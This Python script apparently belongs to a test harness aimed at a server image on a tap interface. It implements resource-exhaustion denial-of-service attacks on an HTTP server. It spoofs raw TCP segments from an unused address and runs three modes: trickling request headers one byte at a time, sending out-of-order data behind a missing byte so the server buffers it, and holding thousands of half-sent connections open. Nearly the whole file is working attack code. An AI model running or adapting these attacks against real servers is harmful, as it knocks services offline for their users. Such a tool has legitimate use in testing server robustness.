# SPDX-License-Identifier: BSD-3-Clause
"""Clients that have a server keep data that it can't use yet. Says "on" once
the attack is under way, and goes on until it is ended.

    attack.py WAY IMAGE MAC TAP
"""
import ctypes
import itertools
import random
import resource
import socket
import struct
import sys
import time

OURS = "10.99.0.1"      # unused: no host answers or resets our connections
SYN, PSH, ACK = 2, 8, 16
ETH_P_IP = b"\x08\x00"
SO_ATTACH_FILTER = 26


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


class Wire:
    """Sends segments of TCP byte by byte; receives what is for OURS."""

    def __init__(self, image, mac, tap):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.addresses = socket.inet_aton(OURS) + socket.inet_aton(image)
        self.take_ours()
        self.socket.bind((tap, 0x0800))
        self.head = (bytes.fromhex(mac.replace(":", "")) +
                     self.socket.getsockname()[4] + ETH_P_IP)

    def take_ours(self):
        """A filter of classic BPF: destination addresses [socket(7)]."""
        ours = int.from_bytes(self.addresses[:4], "big")
        code = b"".join(struct.pack("HBBI", *i) for i in (
            (0x20, 0, 0, 30), (0x15, 0, 1, ours), (6, 0, 0, 0xffff),
            (6, 0, 0, 0)))
        kept = ctypes.create_string_buffer(code)
        self.socket.setsockopt(
            socket.SOL_SOCKET, SO_ATTACH_FILTER,
            struct.pack("HP", len(code) // 8, ctypes.addressof(kept)))

    def send(self, port, flags, seq, ack, data=b""):
        def segment(check):
            return struct.pack("!HHIIBBHHH", port, 80, seq, ack, 0x50, flags,
                               65535, check, 0) + data
        pseudo = self.addresses + struct.pack("!HH", 6, 20 + len(data))
        tcp = segment(checksum(pseudo + segment(0)))
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0)
        ip = ip[:10] + struct.pack("!H", checksum(ip + self.addresses))
        self.socket.send(self.head + ip + self.addresses + tcp)

    def answer(self, port):
        """The number that the server begins with."""
        self.socket.settimeout(5)
        while True:
            frame = self.socket.recv(2048)
            to, flags = struct.unpack("!H", frame[36:38])[0], frame[47]
            if (to, flags) == (port, SYN | ACK):
                return struct.unpack("!I", frame[38:42])[0]


class Ghost:
    """A client that acknowledges nothing but the handshake."""

    def __init__(self, wire, port):
        self.wire, self.port, self.sent = wire, port, 0
        wire.send(port, SYN, 1000, 0)
        self.ack = wire.answer(port) + 1
        self.put(b"")

    def put(self, data, ahead=0):
        self.wire.send(self.port, ACK | PSH, 1001 + self.sent + ahead,
                       self.ack, data)
        if not ahead:
            self.sent += len(data)


def paced(rate):
    """Begins so many rounds a second."""
    start = time.monotonic()
    for i in itertools.count():
        time.sleep(max(0, start + i / rate - time.monotonic()))
        yield i


def ghosts(wire, n, ports=itertools.count(random.randrange(1024, 40000))):
    return [Ghost(wire, next(ports) % 60000 + 1024) for _ in range(n)]


# Both end their connections before the server does, which waits 10 s for a
# head and takes 8 KiB of it.
SECONDS = 8


def byte_by_byte(wire, rate=600):
    """Four heads, each in segments of one byte: 2,400 a second."""
    while True:
        four = ghosts(wire, 4)
        head = itertools.chain(b"GET / HTTP/1.1\r\nX: ", itertools.repeat(97))
        for i, b in zip(paced(rate), head):
            for g in four:
                g.put(bytes([b]))
            if i > rate * SECONDS:
                break
            yield


def out_of_order(wire, rate=125):
    """50 kB/s behind a byte that never comes, with a hole after each piece."""
    while True:
        four = ghosts(wire, 4)
        for i in paced(rate):
            for g in four:
                g.put(b"A" * 100, ahead=1 + 101 * (i % 500))
            if i > rate * SECONDS:
                break
            yield


def many_clients(image, n=4300, rate=2000):
    """Each has sent the first eight bytes of a head."""
    held = []
    for i in paced(rate):
        if len(held) >= n:
            held.pop(0).close()
            yield
        s = socket.create_connection((image, 80), 10)
        s.sendall(b"GET / HT")
        held.append(s)


# Rounds after which an attack is under way: 7,200 segments, for one.
UNDER_WAY = {"byte_by_byte": 1800, "out_of_order": 200, "many_clients": 0}


def main(way, image, mac, tap):
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if way == "many_clients":
        attack = many_clients(image)
    else:
        attack = globals()[way](Wire(image, mac, tap))
    for i, _ in enumerate(attack):
        if i == UNDER_WAY[way]:
            print("on", flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
